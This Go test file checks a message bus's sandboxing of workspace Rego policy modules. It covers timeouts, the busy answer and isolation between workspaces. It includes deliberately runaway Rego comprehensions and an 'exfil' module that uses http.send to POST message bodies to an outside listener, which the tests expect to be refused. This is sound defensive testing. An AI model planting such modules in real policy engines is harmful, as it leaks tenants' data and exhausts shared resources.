package bus_test

import (
	"context"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/google/uuid"

	config "github.com/storybus/storybus/api/config/v1alpha1"
	"github.com/storybus/storybus/policy"
	"github.com/storybus/storybus/rules"
)

// slowPolicy is a workspace module that would run for hours: a
// comprehension over ten billion pairs.
var slowPolicy = config.PolicyModule{Name: "slow", Rego: `package storybus.tenant.slow

deny contains {"rule": "tenant.slow", "message": "unreachable"} if {
	count([p | some i in numbers.range(1, 100000); some j in numbers.range(1, 100000); p := i * j]) < 0
}
`, Rules: []config.TenantRule{{ID: "tenant.slow", Status: 409, Meaning: "m", Fix: "f"}}}

// TestSlowWorkspacePolicyTimesOut proves a workspace module that would run
// for hours is stopped at the policy deadline: the producer gets 503
// policy.timeout with Retry-After, the answer is counted by rule, nothing
// is recorded (the same message is accepted once the module is gone), and
// the neighbouring workspace keeps publishing.
func TestSlowWorkspacePolicyTimesOut(t *testing.T) {
	h := newHarness(t)
	slow := workspaceConfig("newsroom")
	slow.Policies = []config.PolicyModule{slowPolicy}
	if err := h.srv.Apply(context.Background(), slow); err != nil {
		t.Fatal(err)
	}
	tok := h.token(t, "newsroom", "cms", cmsSecret)
	body := snapshot(uuid.NewString(), "story-1", 1, "cms")
	a := h.post(t, "newsroom", tok, body)
	expect(t, a, http.StatusServiceUnavailable, rules.PolicyTimeout)
	if ra := a.Header.Get("Retry-After"); ra != "1" {
		t.Fatalf("Retry-After %q", ra)
	}
	if m := h.metrics(t); !strings.Contains(m, `storybus_publish_requests_total{rule="policy.timeout",status="503",workspace="newsroom"} 1`) {
		t.Fatalf("the timeout is not counted:\n%s", m)
	}

	other := h.token(t, "other", "cms", cmsSecret)
	expect(t, h.post(t, "other", other, snapshot("", "story-1", 1, "cms")), http.StatusAccepted, "")

	if err := h.srv.Apply(context.Background(), workspaceConfig("newsroom")); err != nil {
		t.Fatal(err)
	}
	expect(t, h.post(t, "newsroom", tok, body), http.StatusAccepted, "")
}

// holdingPolicy runs until its deadline without calling a built-in in its
// loop, so no cost bound ends it sooner.
var holdingPolicy = config.PolicyModule{Name: "holding", Rego: `package storybus.tenant.holding

deny contains {"rule": "tenant.holding", "message": "unreachable"} if {
	r := numbers.range(1, 100000)
	count([1 | some i in r; some j in r]) < 0
}
`, Rules: []config.TenantRule{{ID: "tenant.holding", Status: 409, Meaning: "m", Fix: "f"}}}

// TestBusyWorkspacePolicyAnswersPolicyBusy proves a workspace whose one
// evaluation slot is held by a slow module answers a publish at the same
// time at once with 503 policy.busy and Retry-After.
func TestBusyWorkspacePolicyAnswersPolicyBusy(t *testing.T) {
	h := newHarness(t)
	slow := workspaceConfig("newsroom")
	slow.Policies = []config.PolicyModule{holdingPolicy}
	slow.PolicyConcurrency = 1
	slow.PolicyTimeout.Duration = time.Second
	if err := h.srv.Apply(context.Background(), slow); err != nil {
		t.Fatal(err)
	}
	tok := h.token(t, "newsroom", "cms", cmsSecret)
	answers := make(chan answer, 2)
	for story := range 2 {
		go func() { answers <- h.post(t, "newsroom", tok, snapshot("", fmt.Sprintf("story-%d", story), 1, "cms")) }()
	}
	got := map[string]int{}
	for range 2 {
		a := <-answers
		if a.Status != http.StatusServiceUnavailable || a.Header.Get("Retry-After") != "1" {
			t.Fatalf("got %d (Retry-After %q) %s, want 503 with Retry-After 1", a.Status, a.Header.Get("Retry-After"), a.Raw)
		}
		got[a.rule()]++
	}
	if got[rules.PolicyBusy] != 1 || got[rules.PolicyTimeout] != 1 {
		t.Fatalf("two publishes at once with one slot: %v, want one policy.busy and one policy.timeout", got)
	}
	if m := h.metrics(t); !strings.Contains(m, `storybus_publish_requests_total{rule="policy.busy",status="503",workspace="newsroom"} 1`) {
		t.Fatalf("the refusal is not counted:\n%s", m)
	}
}

// TestWorkspaceModuleCallingHTTPSendIsRefused proves a configuration whose
// module would send messages out is refused at load, naming the module and
// the built-in, the previous configuration stays in force, and nothing
// reaches the listener.
func TestWorkspaceModuleCallingHTTPSendIsRefused(t *testing.T) {
	var hits atomic.Int64
	listener := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { hits.Add(1) }))
	defer listener.Close()
	h := newHarness(t)
	bad := workspaceConfig("newsroom")
	bad.Policies = []config.PolicyModule{{Name: "exfil", Rego: `package storybus.tenant.exfil

warn contains {"rule": "tenant.sent", "message": "sent"} if {
	http.send({"method": "POST", "url": "` + listener.URL + `", "body": input.message.doc})
}
`, Rules: []config.TenantRule{{ID: "tenant.sent"}}}}
	err := h.srv.Apply(context.Background(), bad)
	var be *policy.BuiltinError
	if !errors.As(err, &be) || be.Module != "exfil" || be.Builtin != "http.send" || !strings.Contains(err.Error(), "workspace module exfil") {
		t.Fatalf("Apply: %v", err)
	}
	if cfg, _ := h.srv.Config("newsroom"); len(cfg.Policies) != 0 {
		t.Fatalf("the refused configuration is in force: %+v", cfg.Policies)
	}
	tok := h.token(t, "newsroom", "cms", cmsSecret)
	a := h.post(t, "newsroom", tok, snapshot("", "story-1", 1, "cms"))
	expect(t, a, http.StatusAccepted, "")
	if len(a.Tolerated) != 0 || hits.Load() != 0 {
		t.Fatalf("the module ran: tolerated %+v, %d requests sent", a.Tolerated, hits.Load())
	}
}
